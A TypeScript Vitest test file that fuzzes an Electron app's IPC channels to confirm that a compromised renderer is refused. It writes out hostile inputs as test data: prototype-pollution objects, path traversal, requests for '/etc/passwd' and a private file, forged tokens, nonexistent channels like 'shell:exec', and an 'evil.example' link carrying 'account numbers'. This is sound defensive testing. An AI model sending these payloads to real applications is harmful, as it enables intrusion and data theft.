import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { compose } from '../../src/main/compose';
import { createDispatcher } from '../../src/main/dispatch';
import type { Db } from '../../src/main/library/db/open';
import { contract } from '../../src/shared/contract';
import { recordFigures } from '../helpers/figures';
import { testPlatform } from '../helpers/platform';
import { SAMPLE, tempDb } from '../helpers/temp';

/** One valid request per channel; every malformed variant is derived from it. */
const VALID: Record<keyof typeof contract, unknown> = {
  'library:stats': {},
  'briefings:list': { limit: 10, tag: 'policy' },
  'briefings:get': { id: 1 },
  'briefings:update-reading': { id: 1, starred: true },
  'briefings:edit-details': { id: 1, title: 'A corrected title', publishedAt: '2024-05-01' },
  'briefings:delete': { id: 1 },
  'import:sample': {},
  'import:dialog': { kind: 'files' },
  'import:cancel': { runId: 1 },
  'import:retry': { runId: 1 },
  'import:runs': {},
  'import:run': { runId: 1 },
  'drop:register': { paths: ['/tmp/x.txt'] },
  'import:dropped': { token: '6f1c2a52-4b7e-4c1e-9a59-3d0c8f1e2b7a', paths: ['/tmp/x.txt'] },
  'library:export': {},
  'watch:list': {},
  'watch:add': {},
  'watch:remove': { path: '/tmp' },
  'search:query': { query: 'budget', limit: 10, within: { archived: false } },
  'saved:list': {},
  'saved:add': { name: 'n', query: 'q' },
  'saved:remove': { id: 'x' },
  'links:open': { url: 'https://example.org' },
  'tags:list': {},
  'sources:list': {},
  'briefings:bulk': { target: { ids: [1] }, change: { addTags: ['x'] } },
  'briefings:delete-many': { target: { ids: [1] } },
  'briefings:similar': { id: 1, limit: 3 },
  'tags:preview-rename': { from: 'a', to: 'b' },
  'tags:rename': { from: 'a', to: 'b' },
  'tags:recolor': { name: 'a', color: '#112233' },
  'tags:delete': { name: 'a' },
  'tags:suggest': { id: 1 },
  'rules:list': {},
  'rules:add': { field: 'source', pattern: 'x', tag: 'y' },
  'rules:remove': { id: 1 },
  'rules:preview': { field: 'source', pattern: 'x', tag: 'y' },
  'rules:apply': { field: 'source', pattern: 'x', tag: 'y' },
  'history:undo': {},
  'briefings:match-titles': { titles: ['A title'] },
  'highlights:list': { briefingId: 1 },
  'highlights:add': { briefingId: 1, quote: 'q', prefix: '', suffix: '', start: 0, color: 'yellow' },
  'highlights:update': { id: 1, note: 'n' },
  'highlights:remove': { id: 1 },
  'briefings:export-markdown': { id: 1 },
  'briefings:open-original': { id: 1 },
  'briefings:show-original': { id: 1 },
  'prefs:get': {},
  'prefs:set': { fontSize: 18, theme: 'sepia' },
};

const HUGE = 'x'.repeat(10 * 1024 * 1024);
const WRONG: unknown[] = [
  null,
  'text',
  -1,
  1e308,
  Number.NaN,
  1.5,
  true,
  [],
  {},
  [1, 2],
  HUGE,
  { nested: { deep: true } },
];

/** Malformed variants of a request: wrong shapes, missing, extra and prototype keys, bad values. */
function variants(valid: unknown): unknown[] {
  const out: unknown[] = [
    null,
    undefined,
    42,
    'string',
    [],
    HUGE,
    JSON.parse('{"__proto__": {"polluted": true}}'),
    { constructor: { prototype: { polluted: true } } },
  ];
  if (valid && typeof valid === 'object' && !Array.isArray(valid)) {
    const obj = valid as Record<string, unknown>;
    out.push({ ...obj, extra: 1 }, { ...obj, __proto__: { admin: true } });
    out.push(
      JSON.parse(
        `{${Object.entries(obj)
          .map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`)
          .concat('"__proto__":{"x":1}')
          .join(',')}}`,
      ),
    );
    for (const key of Object.keys(obj)) {
      const { [key]: _dropped, ...rest } = obj;
      out.push(rest);
      for (const w of WRONG) out.push({ ...obj, [key]: w });
      const inner = obj[key];
      if (inner && typeof inner === 'object' && !Array.isArray(inner)) {
        for (const v of variants(inner).slice(8)) out.push({ ...obj, [key]: v });
      }
    }
  }
  return out;
}

/** A fingerprint of every row of every table, to prove a refused request changed nothing. */
function fingerprint(db: Db): string {
  const hash = crypto.createHash('sha256');
  const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").all() as {
    name: string;
  }[];
  for (const { name } of tables) hash.update(JSON.stringify(db.prepare(`SELECT * FROM "${name}"`).all()));
  return hash.digest('hex');
}

describe('a compromised renderer gains nothing', () => {
  it('has a valid example for exactly the contract channels', () => {
    expect(Object.keys(VALID).sort()).toEqual(Object.keys(contract).sort());
  });

  it('refuses malformed payloads on every channel with a typed error, keeping main alive and data unchanged', async () => {
    const { db } = tempDb();
    const { platform, opened, asked, answers } = testPlatform({ pickImportPaths: async () => [SAMPLE] });
    const app = compose({ db, platform, samplesDir: path.dirname(SAMPLE), poolSize: 1 });
    const logged: unknown[] = [];
    const dispatch = createDispatcher(app.handlers, (e) => logged.push(e));
    expect((await dispatch('import:sample', {})).ok).toBe(true);
    await dispatch('briefings:bulk', { target: { ids: [1] }, change: { addTags: ['policy'] } });
    const before = fingerprint(db);

    const codes: Record<string, number> = {};
    // Counted by what main answered, never assumed; each distinct request once.
    const seen = new Set<string>();
    let accepted = 0;
    const send = async (channel: string, payload: unknown) => {
      const key = `${channel} ${payload === undefined ? 'undefined' : JSON.stringify(payload)}`;
      const fresh = !seen.has(key);
      seen.add(key);
      const r = await dispatch(channel, payload);
      if (fresh) {
        if (r.ok) accepted++;
        else codes[r.error.code] = (codes[r.error.code] ?? 0) + 1;
      }
      return r;
    };
    let malformed = 0;
    for (const [channel, valid] of Object.entries(VALID)) {
      const schema = contract[channel as keyof typeof contract].input;
      for (const payload of variants(valid)) {
        // Only requests the contract refuses are malformed; a variant that happens to be valid
        // (an optional key dropped) is a normal call and is not sent here.
        if (schema.safeParse(payload).success) continue;
        malformed++;
        const r = await send(channel, payload);
        expect(r.ok, `${channel} accepted ${JSON.stringify(payload)?.slice(0, 120)}`).toBe(false);
        if (!r.ok) {
          expect(r.error.code).toBe('VALIDATION');
          expect(r.error.message.length).toBeLessThan(2000);
        }
      }
    }
    // Channels outside the contract do not exist.
    for (const channel of ['fs:read', 'shell:exec', '__proto__', 'constructor', 'briefings:list ', 'BRIEFINGS:LIST']) {
      const r = await send(channel, {});
      expect(r.ok).toBe(false);
    }
    expect(accepted).toBe(0);
    const malformedDistinct = seen.size;

    // Well-formed requests that are hostile: files main never saw dropped, ids of things that do
    // not exist, links the user declines. Each must be valid by the contract, so the schema is not
    // what stops it: main's own checks are.
    const secret = path.join(os.tmpdir(), `briefings-private-${process.pid}.txt`);
    fs.writeFileSync(secret, 'account numbers');
    const token = () => crypto.randomUUID();
    const hostile: [string, unknown, string][] = [
      ['watch:remove', { path: '/etc' }, 'FORBIDDEN'],
      ['watch:remove', { path: '../../..' }, 'FORBIDDEN'],
      ['import:dropped', { token: token(), paths: [secret] }, 'FORBIDDEN'],
      ['import:dropped', { token: token(), paths: ['/etc/passwd'] }, 'FORBIDDEN'],
      ['import:dropped', { token: token(), paths: ['relative/path.txt'] }, 'FORBIDDEN'],
      ['drop:register', { paths: ['relative/path.txt'] }, 'FORBIDDEN'],
      ['drop:register', { paths: [path.join(os.tmpdir(), 'no-such-file-' + token())] }, 'FORBIDDEN'],
      ['briefings:get', { id: 987_654 }, 'NOT_FOUND'],
      ['briefings:delete', { id: 987_654 }, 'NOT_FOUND'],
      ['highlights:update', { id: 987_654, note: 'n' }, 'NOT_FOUND'],
      ['highlights:remove', { id: 987_654 }, 'NOT_FOUND'],
      ['highlights:add', { ...(VALID['highlights:add'] as object), briefingId: 987_654 }, 'NOT_FOUND'],
      ['briefings:export-markdown', { id: 987_654 }, 'NOT_FOUND'],
      ['briefings:open-original', { id: 987_654 }, 'NOT_FOUND'],
      ['briefings:show-original', { id: 987_654 }, 'NOT_FOUND'],
      ['import:run', { runId: 987_654 }, 'NOT_FOUND'],
      ['import:retry', { runId: 987_654 }, 'NOT_FOUND'],
    ];
    for (const [channel, payload, code] of hostile) {
      expect(contract[channel as keyof typeof contract].input.safeParse(payload).success, channel).toBe(true);
      const r = await send(channel, payload);
      expect(r, `${channel} ${JSON.stringify(payload)}`).toMatchObject({ ok: false, error: { code } });
    }
    // A real drop's token works once, and only for the paths that drop carried.
    const registered = await send('drop:register', { paths: [SAMPLE] });
    expect(registered.ok).toBe(true);
    const dropToken = registered.ok ? (registered.value as { token: string }).token : '';
    expect(await send('import:dropped', { token: dropToken, paths: [SAMPLE, secret] })).toMatchObject({
      ok: false,
      error: { code: 'FORBIDDEN' },
    });
    expect(await send('import:dropped', { token: dropToken, paths: [SAMPLE] })).toMatchObject({
      ok: false,
      error: { code: 'FORBIDDEN' },
    });
    accepted--; // the registration itself is a normal answer, not a hole
    // Huge pages are cut to the contract's cap, not served whole.
    expect(contract['briefings:list'].input.safeParse({ limit: 1_000_000 }).success).toBe(false);
    // A link the user declines in main's dialog does not open, whatever the renderer says.
    answers.confirm = false;
    expect(
      await send('links:open', { url: `https://evil.example/?d=${encodeURIComponent('account numbers')}` }),
    ).toEqual({
      ok: true,
      value: { opened: false },
    });
    accepted--;
    expect(opened).toEqual([]);
    expect(asked).toEqual([`https://evil.example/?d=${encodeURIComponent('account numbers')}`]);
    fs.rmSync(secret);
    expect(accepted).toBe(0);

    expect(fingerprint(db)).toBe(before);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).admin).toBeUndefined();
    const alive = await dispatch('briefings:get', { id: 1 });
    expect(alive.ok).toBe(true);
    expect(logged).toEqual([]);
    await app.entities.close();
    recordFigures('ipc', {
      title: 'A compromised renderer gains nothing (IPC)',
      source: 'tests/main/ipc-fuzz.test.ts',
      rows: [
        [
          'channels (the registered set equals the contract: tests/main/electron-edge.test.ts)',
          Object.keys(contract).length,
        ],
        ['distinct malformed requests (refused by the contract)', malformedDistinct],
        ['malformed requests sent in all', malformed + 6],
        [
          'distinct well-formed hostile requests (foreign paths, forged drop tokens, ids of nothing, declined links)',
          seen.size - malformedDistinct,
        ],
        ...Object.entries(codes).map(([code, n]): [string, number] => [`answered ${code}`, n]),
        ['hostile requests that got what they asked for', accepted],
        ['data changed', fingerprint(db) === before ? 'no' : 'yes'],
        ['main process alive afterwards', alive.ok ? 'yes' : 'no'],
      ],
    });
  }, 120_000);
});
